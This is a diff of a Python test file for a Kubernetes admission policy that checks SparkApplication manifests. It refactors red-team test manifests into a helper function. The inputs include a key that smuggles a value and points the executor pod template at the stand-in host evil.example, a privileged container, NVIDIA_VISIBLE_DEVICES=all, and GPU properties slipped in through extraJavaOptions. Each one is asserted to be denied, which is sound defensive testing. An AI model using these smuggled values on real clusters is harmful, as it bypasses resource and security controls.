@@ -239,7 +239,8 @@ def test_what_cannot_be_read_is_named() -> None:
         extract_workload(with_conf(selector))
 
 
-# Session 14, second red team. Each manifest below is the red team's, as written.
+# Session 14, second red team: its SparkApplications, built by `_red_team_app` from what they
+# share (SparkPi, one executor) and what each sets.
 
 
 def _load(text: str) -> dict[str, Any]:
@@ -253,30 +254,32 @@ def _messages(obj: dict[str, Any]) -> str:
     return " ".join(v.message + " " + v.remedy for v in decision.violations)
 
 
-SPARK_TPL_EQ = """\
-apiVersion: sparkoperator.k8s.io/v1beta2
-kind: SparkApplication
-metadata:
-  name: s1
-  namespace: team-n
-spec:
-  type: Scala
-  mode: cluster
-  image: spark:3.5.0
-  mainClass: org.apache.spark.examples.SparkPi
-  mainApplicationFile: local:///opt/spark/examples/jars/spark-examples.jar
-  sparkVersion: 3.5.0
-  sparkConf:
-    spark.kubernetes.executor.podTemplateFile=https://evil.example/t.yaml?x: y
-  driver:
-    cores: 1
-    memory: 512m
-    serviceAccount: spark
-  executor:
-    cores: 1
-    instances: 1
-    memory: 512m
-"""
+def _red_team_app(
+    spark_conf: dict[str, str], executor: dict[str, Any] | None = None, spark: str = "3.5.0"
+) -> dict[str, Any]:
+    """The red team's SparkApplication (session 14, /tmp/rt14): Spark's SparkPi with its own
+    sparkConf and executor fields, the Spark version in the image and sparkVersion."""
+    return {
+        "apiVersion": "sparkoperator.k8s.io/v1beta2",
+        "kind": "SparkApplication",
+        "metadata": {"name": "s1", "namespace": "team-n"},
+        "spec": {
+            "type": "Scala",
+            "mode": "cluster",
+            "image": f"apache/spark:{spark}" if spark != "3.5.0" else "spark:3.5.0",
+            "mainClass": "org.apache.spark.examples.SparkPi",
+            "mainApplicationFile": "local:///opt/spark/examples/jars/spark-examples.jar",
+            "sparkVersion": spark,
+            "sparkConf": dict(spark_conf),
+            "driver": {"cores": 1, "memory": "512m", "serviceAccount": "spark"},
+            "executor": {"cores": 1, "instances": 1, "memory": "512m", **(executor or {})},
+        },
+    }
+
+
+SPARK_TPL_EQ = _red_team_app(
+    {"spark.kubernetes.executor.podTemplateFile=https://evil.example/t.yaml?x": "y"}
+)
 
 SCHED_TPL_EQ = """\
 apiVersion: sparkoperator.k8s.io/v1beta2
@@ -301,7 +304,7 @@ spec:
 def test_a_key_is_cut_at_its_first_equals_sign_as_spark_does() -> None:
     # H1: the operator passes `--conf <key>=<value>` and Spark splits at the first "=", so this
     # entry sets spark.kubernetes.executor.podTemplateFile to https://evil.example/t.yaml?x=y.
-    app = _load(SPARK_TPL_EQ)
+    app = copy.deepcopy(SPARK_TPL_EQ)
     key = "spark.kubernetes.executor.podTemplateFile=https://evil.example/t.yaml?x"
     assert found(app) == {(DEVICE_ACCESS, f'spec.sparkConf["{key}"]')}
     assert decide(app)[1] is Action.DENY
@@ -340,69 +343,29 @@ def test_two_entries_that_set_one_property_are_read_only_when_they_agree() -> No
     assert extract_workload(EXAMPLE).accelerators == ()
 
 
-SPARK_SEL32 = """\
-apiVersion: sparkoperator.k8s.io/v1beta2
-kind: SparkApplication
-metadata:
-  name: s1
-  namespace: team-n
-spec:
-  type: Scala
-  mode: cluster
-  image: apache/spark:3.2.4
-  mainClass: org.apache.spark.examples.SparkPi
-  mainApplicationFile: local:///opt/spark/examples/jars/spark-examples.jar
-  sparkVersion: 3.2.4
-  sparkConf:
-    spark.executor.resource.gpu.amount: '8'
-    spark.executor.resource.gpu.vendor: nvidia.com
-    spark.kubernetes.executor.node.selector.nvidia.com/gpu.product: Tesla-T4
-    spark.kubernetes.driver.node.selector.nvidia.com/gpu.product: Tesla-T4
-  driver:
-    cores: 1
-    memory: 512m
-    serviceAccount: spark
-  executor:
-    cores: 1
-    instances: 1
-    memory: 512m
-"""
-
-SPARK_SEL_GPU = """\
-apiVersion: sparkoperator.k8s.io/v1beta2
-kind: SparkApplication
-metadata:
-  name: s1
-  namespace: team-n
-spec:
-  type: Scala
-  mode: cluster
-  image: apache/spark:3.2.4
-  mainClass: org.apache.spark.examples.SparkPi
-  mainApplicationFile: local:///opt/spark/examples/jars/spark-examples.jar
-  sparkVersion: 3.2.4
-  sparkConf:
-    spark.kubernetes.executor.node.selector.nvidia.com/gpu.product: Tesla-T4
-  driver:
-    cores: 1
-    memory: 512m
-    serviceAccount: spark
-  executor:
-    cores: 1
-    instances: 1
-    memory: 512m
-    gpu:
-      name: nvidia.com/gpu
-      quantity: 8
-"""
+EXECUTOR_SELECTOR = "spark.kubernetes.executor.node.selector.nvidia.com/gpu.product"
+SPARK_SEL32 = _red_team_app(
+    {
+        "spark.executor.resource.gpu.amount": "8",
+        "spark.executor.resource.gpu.vendor": "nvidia.com",
+        EXECUTOR_SELECTOR: "Tesla-T4",
+        "spark.kubernetes.driver.node.selector.nvidia.com/gpu.product": "Tesla-T4",
+    },
+    spark="3.2.4",
+)
+SPARK_SEL_GPU = _red_team_app(
+    {EXECUTOR_SELECTOR: "Tesla-T4"},
+    {"gpu": {"name": "nvidia.com/gpu", "quantity": 8}},
+    spark="3.2.4",
+)
 
 
 @pytest.mark.parametrize("text", [SPARK_SEL32, SPARK_SEL_GPU], ids=["properties", "gpu"])
-def test_role_node_selectors_pin_nothing_alone(text: str) -> None:
+def test_role_node_selectors_pin_nothing_alone(text: dict[str, Any]) -> None:
     # H2: Spark applies spark.kubernetes.{driver,executor}.node.selector.* only since 3.3.0
     # (SPARK-36075); the application's image (3.2.4 here) chooses the version, so the executor
     # may land on any node.
-    app = _load(text)
+    app = copy.deepcopy(text)
     assert decide(app)[1] is Action.DENY
     message = _messages(app)
     assert "only since 3.3.0" in message
@@ -431,111 +394,25 @@ def _executor(**fields: Any) -> dict[str, Any]:
     return app
 
 
-SPARK_ENV = """\
-apiVersion: sparkoperator.k8s.io/v1beta2
-kind: SparkApplication
-metadata:
-  name: s1
-  namespace: team-n
-spec:
-  type: Scala
-  mode: cluster
-  image: spark:3.5.0
-  mainClass: org.apache.spark.examples.SparkPi
-  mainApplicationFile: local:///opt/spark/examples/jars/spark-examples.jar
-  sparkVersion: 3.5.0
-  sparkConf: {}
-  driver:
-    cores: 1
-    memory: 512m
-    serviceAccount: spark
-  executor:
-    cores: 1
-    instances: 1
-    nodeSelector:
-      nvidia.com/gpu.product: NVIDIA-H100-80GB-HBM3
-    env:
-    - name: NVIDIA_VISIBLE_DEVICES
-      value: all
-"""
-
-SPARK_PRIV = """\
-apiVersion: sparkoperator.k8s.io/v1beta2
-kind: SparkApplication
-metadata:
-  name: s1
-  namespace: team-n
-spec:
-  type: Scala
-  mode: cluster
-  image: spark:3.5.0
-  mainClass: org.apache.spark.examples.SparkPi
-  mainApplicationFile: local:///opt/spark/examples/jars/spark-examples.jar
-  sparkVersion: 3.5.0
-  sparkConf: {}
-  driver:
-    cores: 1
-    memory: 512m
-    serviceAccount: spark
-  executor:
-    cores: 1
-    instances: 1
-    nodeSelector:
-      nvidia.com/gpu.product: NVIDIA-H100-80GB-HBM3
-    securityContext:
-      privileged: true
-"""
-
-SPARK_EXECENV = """\
-apiVersion: sparkoperator.k8s.io/v1beta2
-kind: SparkApplication
-metadata:
-  name: s1
-  namespace: team-n
-spec:
-  type: Scala
-  mode: cluster
-  image: spark:3.5.0
-  mainClass: org.apache.spark.examples.SparkPi
-  mainApplicationFile: local:///opt/spark/examples/jars/spark-examples.jar
-  sparkVersion: 3.5.0
-  sparkConf:
-    spark.executorEnv.NVIDIA_VISIBLE_DEVICES: all
-    spark.kubernetes.executor.node.selector.nvidia.com/gpu.product: NVIDIA-H100-80GB-HBM3
-  driver:
-    cores: 1
-    memory: 512m
-    serviceAccount: spark
-  executor:
-    cores: 1
-    instances: 1
-    memory: 512m
-"""
-
-SPARK_DJO = """\
-apiVersion: sparkoperator.k8s.io/v1beta2
-kind: SparkApplication
-metadata:
-  name: s1
-  namespace: team-n
-spec:
-  type: Scala
-  mode: cluster
-  image: spark:3.5.0
-  mainClass: org.apache.spark.examples.SparkPi
-  mainApplicationFile: local:///opt/spark/examples/jars/spark-examples.jar
-  sparkVersion: 3.5.0
-  sparkConf:
-    spark.driver.extraJavaOptions: -Dspark.executor.resource.gpu.amount=8 -Dspark.executor.resource.gpu.vendor=nvidia.com
-  driver:
-    cores: 1
-    memory: 512m
-    serviceAccount: spark
-  executor:
-    cores: 1
-    instances: 1
-    memory: 512m
-"""
+H100_SELECTOR = {"nvidia.com/gpu.product": "NVIDIA-H100-80GB-HBM3"}
+SPARK_ENV = _red_team_app(
+    {}, {"nodeSelector": H100_SELECTOR, "env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]}
+)
+SPARK_PRIV = _red_team_app(
+    {}, {"nodeSelector": H100_SELECTOR, "securityContext": {"privileged": True}}
+)
+SPARK_EXECENV = _red_team_app(
+    {
+        "spark.executorEnv.NVIDIA_VISIBLE_DEVICES": "all",
+        EXECUTOR_SELECTOR: "NVIDIA-H100-80GB-HBM3",
+    }
+)
+SPARK_DJO = _red_team_app(
+    {
+        "spark.driver.extraJavaOptions": "-Dspark.executor.resource.gpu.amount=8 "
+        "-Dspark.executor.resource.gpu.vendor=nvidia.com"
+    }
+)
 
 
 @pytest.mark.parametrize(
@@ -548,11 +425,11 @@ spec:
     ],
     ids=["env", "privileged", "executorEnv", "driver-java-options"],
 )
-def test_device_access_of_the_driver_and_executor_is_read(text: str, field: str) -> None:
+def test_device_access_of_the_driver_and_executor_is_read(text: dict[str, Any], field: str) -> None:
     # H4: an executor's env and securityContext are its container's; spark.executorEnv.<NAME>
     # is a variable of each executor; -Dspark... in the driver's JVM options becomes the
     # driver's SparkConf, which builds the executors (with 8 GPUs here).
-    app = _load(text)
+    app = copy.deepcopy(text)
     assert (DEVICE_ACCESS, field) in found(app)
     assert decide(app)[1] is Action.DENY
     assert decide(scheduled(app))[1] is Action.DENY
